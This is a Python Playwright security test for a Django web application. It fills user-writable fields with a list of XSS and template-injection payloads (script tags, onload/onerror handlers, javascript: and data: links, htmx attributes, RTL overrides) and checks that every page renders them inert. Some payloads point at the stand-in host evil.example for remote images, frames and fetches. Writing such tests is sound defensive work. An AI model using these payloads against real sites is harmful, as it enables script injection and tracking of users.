"""Hostile strings in every field a user can write, and every page looked at in chromium, as the
project's admin and as its annotator. Nothing may run (no dialog, `window.__pwned` never set,
no injected handler, javascript:/data: link or htmx attribute in the DOM), nothing may be
fetched from a foreign host, every JSON block must parse, and nothing may answer 5xx."""

from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.test import Client
from playwright.sync_api import Error as PlaywrightError

from tests.security.routes import ADMIN_SITE, all_routes, route_url
from tests.security.test_authorization_matrix import MATRIX
from tests.security.world import ANNOTATOR, PROJECT_ADMIN, kwargs_for, world_build

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PWN = "window.__pwned=1"
EVIL = "evil.example"
HOSTILE = [
    f"</script><script>{PWN}</script>",
    f'"><svg onload="{PWN}">',
    f"'><img src=x onerror='{PWN}'>",
    f"[a javascript link](javascript:{PWN})",
    f'<a href="javascript:{PWN}">a raw javascript link</a>',
    "[a data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    f"![a remote image](https://{EVIL}/pixel.png)",
    f'<img src="https://{EVIL}/raw.png">',
    f'<div hx-get="https://{EVIL}/htmx" hx-trigger="load" hx-on::load="{PWN}">htmx</div>',
    "{{7*7}} {% debug %} {{ request.user.password }}",
    "\u202eRTL override\u202c and \u2066isolate\u2069",
    f"<iframe src='https://{EVIL}/frame'></iframe><style>@import 'https://{EVIL}/s.css';</style>",
]
ALL_IN_ONE = "\n\n".join(HOSTILE)
SHORT = f'"><svg onload={PWN}>{{{{7*7}}}}</script>\u202e'
LONG = (ALL_IN_ONE + "\n\n") * (100_000 // len(ALL_IN_ONE) + 1)  # a 100 KB hostile string


def hostile_text(field_name: str, max_length: int | None) -> str:
    if max_length:
        return (SHORT + ALL_IN_ONE)[:max_length]
    # The biggest texts where people read long ones: a prompt and a chat message.
    return LONG[:100_000] if field_name in ("prompt_messages", "message_content") else ALL_IN_ONE


# Evaluated in each page: what the payloads would have left behind had any of them worked.
INJECTED = """() => {
  const hits = [];
  if (window.__pwned !== undefined) hits.push('window.__pwned set');
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase(), value = attr.value.toLowerCase();
      if (name.startsWith('on') && value.includes('__pwned')) hits.push(`${el.tagName} ${name}`);
      if ((name.startsWith('hx-') || name.startsWith('data-hx-')) && (value.includes('evil.example') || value.includes('__pwned')))
        hits.push(`${el.tagName} ${name}`);
      if ((name === 'href' || name === 'src' || name === 'action' || name === 'formaction')
          && (value.trim().startsWith('javascript:') || value.trim().startsWith('data:text/html')))
        hits.push(`${el.tagName} ${name}=${value.slice(0, 40)}`);
    }
  }
  const badJson = [];
  for (const block of document.querySelectorAll('script[type="application/json"]')) {
    try { JSON.parse(block.textContent); } catch (e) { badJson.push(block.id || 'unnamed'); }
  }
  // The payloads are on the page as text (so the page did show what users wrote).
  const shown = document.body ? Number(document.body.innerText.includes('__pwned')) : 0;
  return {hits, badJson, shown};
}"""


def _session_cookie(live_server, user) -> dict:
    client = Client()
    client.force_login(user)
    return {
        "name": settings.SESSION_COOKIE_NAME,
        "value": client.cookies[settings.SESSION_COOKIE_NAME].value,
        "url": live_server.url,
    }


def _look_at_every_page(browser, live_server, world, role, pages, leaks: list[str]):
    """Opens every page as `role`; returns (pages seen, problems, signs of code that ran)."""
    local_hosts = {"127.0.0.1", "localhost", urlsplit(live_server.url).hostname}
    context = browser.new_context()
    context.add_cookies([_session_cookie(live_server, world.user(role))])

    def guard(route, request):
        if urlsplit(request.url).hostname in local_hosts or request.url.startswith("data:"):
            route.continue_()
        else:
            leaks.append(f"{request.method} {request.url} (as {role})")
            route.abort()

    context.route("**/*", guard)
    page = context.new_page()
    page.set_default_timeout(20_000)
    dialogs: list[str] = []
    problems: list[str] = []

    def on_dialog(dialog):
        dialogs.append(dialog.message)
        dialog.dismiss()

    def on_response(response):
        if response.status >= 500:
            problems.append(f"server error as {role}: {response.status} {response.url}")

    page.on("dialog", on_dialog)
    page.on("response", on_response)
    seen, pwned, shown = 0, 0, 0
    # Each page whole, then as the partial htmx swaps in (the same URL with HX-Request).
    visits = [(route, partial) for partial in (False, True) for route in pages]
    for route, partial in visits:
        page.set_extra_http_headers({"HX-Request": "true"} if partial else {})
        where = f"{route.name}{' (htmx partial)' if partial else ''} as {role}"
        url = live_server.url + route_url(route, kwargs_for(route, world))
        try:
            response = page.goto(url, wait_until="load")
        except PlaywrightError as exc:
            if "Download is starting" not in str(exc):  # a file download is not a page
                problems.append(f"{where}: {str(exc).splitlines()[0]}")
            continue
        # (400 is fine: a download page asked for without its parameters says what it needs.)
        if response is not None and (response.status in (401, 403, 404) or response.status >= 500):
            problems.append(f"{where}: {response.status} for a page it may see")
        seen += 1
        page.wait_for_timeout(150)  # htmx "load" triggers and late scripts get their turn
        found = page.evaluate(INJECTED)
        shown += found["shown"]
        if found["hits"]:
            pwned += len(found["hits"])
            problems.append(f"{where}: injected {found['hits'][:5]}")
        if found["badJson"]:
            problems.append(f"{where}: JSON that does not parse: {found['badJson']}")
    context.close()
    problems += [f"dialog as {role}: {message}" for message in dialogs]
    return seen, shown, problems, pwned + len(dialogs)


def test_hostile_strings_render_inert_on_every_page(
    browser, live_server, tmp_path, settings, security_counters
):
    settings.MEDIA_ROOT = tmp_path
    world = world_build(text=hostile_text, media_root=tmp_path)
    routes = all_routes()
    leaks: list[str] = []
    seen, shown, problems, pwned = 0, 0, [], 0
    for role in (PROJECT_ADMIN, ANNOTATOR):
        # Every page the role may GET, by the authorization matrix (the rest answer 4xx).
        pages = [
            route
            for route in routes
            if role in MATRIX.get(route.name, {}).get("GET", ()) and route.name != ADMIN_SITE
        ]
        role_seen, role_shown, role_problems, role_pwned = _look_at_every_page(
            browser, live_server, world, role, pages, leaks
        )
        seen, shown = seen + role_seen, shown + role_shown
        problems, pwned = problems + role_problems, pwned + role_pwned

    security_counters["hostile_fields"] += len(world.written_fields)
    security_counters["pwned"] += pwned
    security_counters["leaks"] += len(leaks)
    assert seen > 2 * 2 * 30, f"only {seen} pages were looked at"
    assert shown > 20, f"the hostile text showed (as text) on only {shown} of {seen} pages"
    assert not leaks, "requests to foreign hosts:\n" + "\n".join(leaks)
    assert not problems, "\n".join(problems)


def test_the_checks_see_what_a_working_payload_leaves_behind(browser):
    """The detectors above, shown the raw payloads in a blank page (no CSP) that does not
    escape them."""
    leaks: list[str] = []
    context = browser.new_context()

    def guard(route, request):
        if urlsplit(request.url).hostname == EVIL:
            leaks.append(request.url)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", guard)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    raw = (
        "".join(HOSTILE[:9])
        + '<script>alert("x")</script><script type="application/json">{</script>'
    )
    page.set_content(f"<html><body>{raw}</body></html>", wait_until="load")
    page.wait_for_timeout(300)
    found = page.evaluate(INJECTED)
    context.close()
    assert "window.__pwned set" in found["hits"]
    assert any("onload" in hit or "onerror" in hit for hit in found["hits"])
    assert any("javascript:" in hit for hit in found["hits"])
    assert found["badJson"] == ["unnamed"]
    assert dialogs == ["x"]
    assert any("raw.png" in url for url in leaks)
